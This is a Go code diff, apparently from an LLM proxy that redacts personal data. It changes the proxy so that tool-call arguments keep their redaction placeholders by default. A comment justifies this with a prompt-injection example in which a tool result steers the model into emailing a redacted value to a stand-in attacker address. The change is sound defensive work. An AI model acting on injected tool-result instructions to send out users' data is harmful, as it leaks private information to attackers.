@@ -218,16 +218,25 @@ func redactArguments(s *redact.Session, args string) string {
 	return s.Redact(args)
 }
 
-// restoreArguments puts the values back into a tool call's arguments.
-func restoreArguments(s *redact.Session, args string) string {
+// restoreArguments puts the values back into a tool call's arguments if
+// target says so (spec.restoreToolArguments); by default the tool gets the
+// placeholders. A model that read an injection in a tool result can be
+// steered into send_email{"to": "attacker@evil.test", "body": "<EMAIL_1>"}:
+// restoring there would hand the value to whoever the model was told to
+// send it to.
+func restoreArguments(s *redact.Session, target *llm.Model, args string) string {
+	if !target.Spec.RestoreToolArguments {
+		return args
+	}
 	if b, err := s.RestoreJSON([]byte(args)); err == nil {
 		return string(b)
 	}
 	return s.Restore(args)
 }
 
-// restoreResponse puts the redacted values back into the answer.
-func restoreResponse(resp *llm.ChatResponse, s *redact.Session) {
+// restoreResponse puts the redacted values back into the answer: its text,
+// and tool calls' arguments if target restores them.
+func restoreResponse(resp *llm.ChatResponse, s *redact.Session, target *llm.Model) {
 	if s == nil {
 		return
 	}
@@ -241,7 +250,7 @@ func restoreResponse(resp *llm.ChatResponse, s *redact.Session) {
 			}
 		}
 		for j := range m.ToolCalls {
-			m.ToolCalls[j].Function.Arguments = restoreArguments(s, m.ToolCalls[j].Function.Arguments)
+			m.ToolCalls[j].Function.Arguments = restoreArguments(s, target, m.ToolCalls[j].Function.Arguments)
 		}
 	}
 }
@@ -258,6 +267,17 @@ func embeddingInputs(raw json.RawMessage) ([]string, error) {
 		return many, nil
 	}
 	return nil, problem.New(http.StatusBadRequest, problem.InvalidRequest, "input: want a string or a non-empty list of strings (corral does not accept token arrays: it cannot redact them)")
+}
+
+// redactEmbedding returns a copy of req with personal data replaced in its
+// inputs and in user, as redactRequest does for a chat.
+func redactEmbedding(req *llm.EmbeddingRequest, inputs []string, s *redact.Session) llm.EmbeddingRequest {
+	out := *req
+	out.Input = redactInputs(req.Input, inputs, s)
+	if s != nil {
+		out.User = s.Redact(req.User)
+	}
+	return out
 }
 
 // redactInputs returns the embeddings input with personal data replaced,
